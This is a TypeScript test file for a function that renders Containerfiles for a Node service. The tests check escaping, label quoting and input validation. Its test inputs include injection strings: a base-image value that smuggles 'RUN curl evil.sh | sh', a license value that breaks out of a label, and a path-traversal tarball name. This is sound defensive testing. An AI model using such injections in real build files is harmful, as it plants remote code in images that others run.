import { DockerfileParser, type Dockerfile, type Instruction } from 'dockerfile-ast';
import { describe, expect, it } from 'vitest';
import { ArtifactInputError } from '../src/core/render/artifact-input.js';
import { renderContainerfile } from '../src/core/render/containerfile.js';
import { HOSTILE_VALID_DESCRIPTIONS, LINE_BREAKING_DESCRIPTIONS, artifactManifest } from './helpers/artifact-manifest.js';

const OPTIONS = { baseImage: 'docker.io/library/node:24-slim', tarballName: 'hecate-echo-1.2.3.tar.gz' };

function parse(containerfile: string): Dockerfile {
  return DockerfileParser.parse(containerfile);
}

interface PropertyLike {
  getName(): string;
  getValue(): string | null;
}

/**
 * The builder's second stage after quote removal: variable expansion, where `\$` is a literal `$`.
 * dockerfile-ast's Property.getValue() stops before it; an unescaped `$` is reported by
 * getVariables() instead, which the tests require to be empty.
 */
function withVariablesResolved(value: string): string {
  return value.replace(/\\\$/g, '$');
}

function propertiesOf(instruction: Instruction | undefined): Array<[string, string]> {
  if (instruction === undefined || !('getProperties' in instruction)) throw new Error('not a property instruction');
  const properties = (instruction as unknown as { getProperties(): PropertyLike[] }).getProperties();
  return properties.map((property) => [property.getName(), withVariablesResolved(property.getValue() ?? '')]);
}

/** Each instruction as the builder sees it: keyword and arguments (KEY=value pairs unquoted). */
function instructionsOf(dockerfile: Dockerfile): Array<[string, string[]]> {
  return dockerfile.getInstructions().map((instruction) => [
    instruction.getKeyword(),
    'getProperties' in instruction
      ? propertiesOf(instruction).map(([name, value]) => `${name}=${value}`)
      : instruction.getArguments().map((argument) => argument.getValue()),
  ]);
}

function instruction(dockerfile: Dockerfile, keyword: string): Instruction | undefined {
  return dockerfile.getInstructions().find((candidate) => candidate.getKeyword() === keyword);
}

describe('renderContainerfile', () => {
  it('renders the instructions of a non-root Node LTS image that unpacks the release with ADD', () => {
    expect(instructionsOf(parse(renderContainerfile(artifactManifest(), OPTIONS)))).toEqual([
      ['FROM', ['docker.io/library/node:24-slim']],
      ['RUN', ['["install",', '"-d",', '"-o",', '"1000",', '"-g",', '"1000",', '"-m",', '"0750",', '"/var/lib/hecate/hecate-echo",', '"/etc/hecate/secrets/hecate-echo"]']],
      ['ENV', [
        'NODE_ENV=production',
        'HECATE_HEALTH_HOST=0.0.0.0',
        'HECATE_HEALTH_PORT=8470',
        'HECATE_SECRETS_DIR=/etc/hecate/secrets/hecate-echo',
        'HECATE_STATE_DIR=/var/lib/hecate/hecate-echo',
        'HECATE_LOG_LEVEL=info',
        'HECATE_HEALTH_TIMEOUT_MS=1000',
        'HECATE_SHUTDOWN_TIMEOUT_MS=8000',
        'HECATE_REALM_URL=',
        'HECATE_REALM_DID=',
        'HECATE_IDENTITY_REQUIRED=auto',
        'HECATE_REVOCATION_REFRESH_MS=30000',
        'HECATE_MESH_URL=',
        'HECATE_MESH_AUTHORIZATION=on',
      ]],
      ['ADD', ['hecate-echo-1.2.3.tar.gz', '/opt/hecate/']],
      ['WORKDIR', ['/opt/hecate/hecate-echo-1.2.3']],
      ['USER', ['1000:1000']],
      ['EXPOSE', ['8470']],
      ['HEALTHCHECK', ['CMD', '["node",', '"main.js",', '"--healthcheck"]']],
      ['STOPSIGNAL', ['SIGTERM']],
      ['LABEL', [
        'org.opencontainers.image.title=hecate-echo',
        'org.opencontainers.image.version=1.2.3',
        'org.opencontainers.image.description=Echoes over the mesh',
        'org.opencontainers.image.licenses=Apache-2.0',
        'org.opencontainers.image.source=https://github.com/hecate-om/hecate-echo',
      ]],
      ['CMD', ['["node",', '"--enable-source-maps",', '"main.js"]']],
    ]);
  });

  it('writes exec-form JSON for RUN, HEALTHCHECK and CMD, so no shell parses them', () => {
    const dockerfile = parse(renderContainerfile(artifactManifest(), OPTIONS));
    const jsonOf = (keyword: string): string[] => {
      const found = instruction(dockerfile, keyword) as unknown as { getJSONStrings(): Array<{ getJSONValue(): string }> };
      return found.getJSONStrings().map((argument) => argument.getJSONValue());
    };
    expect([jsonOf('RUN'), jsonOf('CMD')]).toEqual([
      ['install', '-d', '-o', '1000', '-g', '1000', '-m', '0750', '/var/lib/hecate/hecate-echo', '/etc/hecate/secrets/hecate-echo'],
      ['node', '--enable-source-maps', 'main.js'],
    ]);
    const healthcheck = instruction(dockerfile, 'HEALTHCHECK') as unknown as {
      getFlags(): Array<{ getName(): string; getValue(): string | null }>;
    };
    expect(healthcheck.getFlags().map((flag) => [flag.getName(), flag.getValue()])).toEqual([
      ['interval', '10s'],
      ['timeout', '5s'],
      ['start-period', '30s'],
      ['retries', '3'],
    ]);
  });

  it('sets the runtime environment, with the health endpoint on every interface', () => {
    const dockerfile = parse(renderContainerfile(artifactManifest({ health: { port: 9000, path: '/health' } }), OPTIONS));
    expect(propertiesOf(instruction(dockerfile, 'ENV'))).toEqual([
      ['NODE_ENV', 'production'],
      ['HECATE_HEALTH_HOST', '0.0.0.0'],
      ['HECATE_HEALTH_PORT', '9000'],
      ['HECATE_SECRETS_DIR', '/etc/hecate/secrets/hecate-echo'],
      ['HECATE_STATE_DIR', '/var/lib/hecate/hecate-echo'],
      ['HECATE_LOG_LEVEL', 'info'],
      ['HECATE_HEALTH_TIMEOUT_MS', '1000'],
      ['HECATE_SHUTDOWN_TIMEOUT_MS', '8000'],
      ['HECATE_REALM_URL', ''],
      ['HECATE_REALM_DID', ''],
      ['HECATE_IDENTITY_REQUIRED', 'auto'],
      ['HECATE_REVOCATION_REFRESH_MS', '30000'],
      ['HECATE_MESH_URL', ''],
      ['HECATE_MESH_AUTHORIZATION', 'on'],
    ]);
    expect(instructionsOf(dockerfile).find(([keyword]) => keyword === 'EXPOSE')).toEqual(['EXPOSE', ['9000']]);
  });

  it('leaves the source label out when the manifest has no source', () => {
    const { source: _source, ...withoutSource } = artifactManifest();
    expect(propertiesOf(instruction(parse(renderContainerfile(withoutSource, OPTIONS)), 'LABEL')).map(([name]) => name)).toEqual([
      'org.opencontainers.image.title',
      'org.opencontainers.image.version',
      'org.opencontainers.image.description',
      'org.opencontainers.image.licenses',
    ]);
  });

  it('starts FROM the base image it is given', () => {
    const containerfile = renderContainerfile(artifactManifest(), { ...OPTIONS, baseImage: 'registry.example.com:5000/mirror/node:22-alpine@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef' });
    expect(instructionsOf(parse(containerfile))[0]).toEqual(['FROM', ['registry.example.com:5000/mirror/node:22-alpine@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef']]);
  });

  it('opens with a comment saying it is generated, and no parser directive', () => {
    const containerfile = renderContainerfile(artifactManifest(), OPTIONS);
    expect(containerfile.split('\n')[0]).toBe('# Generated by @hecate-om/unplugin from the contract of hecate-echo 1.2.3. Do not edit: rebuild.');
    expect(parse(containerfile).getDirectives()).toEqual([]);
  });

  it('documents in its header the reproducible OCI build, where the health check comes from the unit, and --init', () => {
    const header = renderContainerfile(artifactManifest(), OPTIONS).split('\n').filter((line) => line.startsWith('#'));
    expect(header).toEqual(
      expect.arrayContaining([
        '#   podman build --format oci --timestamp 0 --tag ghcr.io/hecate-om/hecate-echo:1.2.3 .',
        '# Its image has no health check; the Quadlet unit carries its own (HealthCmd=) in either format.',
        '#   podman run --init --read-only --cap-drop=all --security-opt=no-new-privileges --volume hecate-echo-state:/var/lib/hecate/hecate-echo ghcr.io/hecate-om/hecate-echo:1.2.3',
      ]),
    );
  });

  it.each(HOSTILE_VALID_DESCRIPTIONS.map((description) => [description]))(
    'keeps the hostile description %j inside its label, adding no instruction, and reads back exactly',
    (description) => {
      const dockerfile = parse(renderContainerfile(artifactManifest({ description }), OPTIONS));
      expect(instructionsOf(dockerfile).map(([keyword]) => keyword)).toEqual(
        instructionsOf(parse(renderContainerfile(artifactManifest(), OPTIONS))).map(([keyword]) => keyword),
      );
      expect(propertiesOf(instruction(dockerfile, 'LABEL'))).toContainEqual(['org.opencontainers.image.description', description]);
      expect(propertiesOf(instruction(dockerfile, 'LABEL'))).toHaveLength(5);
      expect(dockerfile.getInstructions().flatMap((found) => found.getVariables())).toEqual([]);
    },
  );

  it('escapes ", \\ and $ in label values so the builder neither ends the string nor expands a variable', () => {
    const containerfile = renderContainerfile(artifactManifest({ description: 'a "b" \\ $HOME ${x}' }), OPTIONS);
    expect(containerfile).toContain('org.opencontainers.image.description="a \\"b\\" \\\\ \\$HOME \\${x}" \\\n');
  });

  it('keeps a source URL with shell-special characters inside its label', () => {
    const source = "https://example.com/a$b'c(d)&e;f=%20";
    const dockerfile = parse(renderContainerfile(artifactManifest({ source }), OPTIONS));
    expect(propertiesOf(instruction(dockerfile, 'LABEL'))).toContainEqual(['org.opencontainers.image.source', source]);
  });

  it.each(['\u202E', '\u2066'])('refuses a description with the bidi control %j, which would display it reordered', (control) => {
    const description = `Echoes ${control}over the mesh`;
    expect(() => renderContainerfile(artifactManifest({ description }), OPTIONS)).toThrow(
      new ArtifactInputError(
        'manifest.description',
        `contains the bidirectional control character U+${control.codePointAt(0)?.toString(16).toUpperCase()} at index 7: it would make the label, the unit and the README display otherwise than they read (validate the manifest with parseManifest() before rendering)`,
      ),
    );
  });

  it.each(LINE_BREAKING_DESCRIPTIONS)('refuses a description with %s', (_label, description, codePoint, index) => {
    expect(() => renderContainerfile(artifactManifest({ description }), OPTIONS)).toThrow(
      new ArtifactInputError(
        'manifest.description',
        `contains the control character ${codePoint} at index ${index}: the Containerfile and the Quadlet unit are line-based, so it could start a new instruction or directive (validate the manifest with parseManifest() before rendering)`,
      ),
    );
  });

  it.each([
    'node:24-slim\nRUN curl evil.sh | sh',
    'node:24-slim AS base',
    'Docker.io/Library/Node',
    'node:24-slim --platform=linux/arm64',
    '',
  ])('refuses the base image %j', (baseImage) => {
    expect(() => renderContainerfile(artifactManifest(), { ...OPTIONS, baseImage })).toThrow(
      expect.objectContaining({ name: 'ArtifactInputError', field: 'opts.baseImage' }),
    );
  });

  it('refuses a tarball name that is not a plain .tar.gz file name', () => {
    expect(() => renderContainerfile(artifactManifest(), { ...OPTIONS, tarballName: '../x.tar.gz /etc/' })).toThrow(
      'opts.tarballName is "../x.tar.gz /etc/": it must be a plain file name ending in .tar.gz',
    );
  });

  it('refuses a license or source that could end the label', () => {
    expect(() => renderContainerfile(artifactManifest({ license: 'MIT" evil="1' }), OPTIONS)).toThrow(
      expect.objectContaining({ field: 'manifest.license' }),
    );
    expect(() => renderContainerfile(artifactManifest({ source: 'https://x.io/a"b' }), OPTIONS)).toThrow(
      expect.objectContaining({ field: 'manifest.source' }),
    );
  });
});
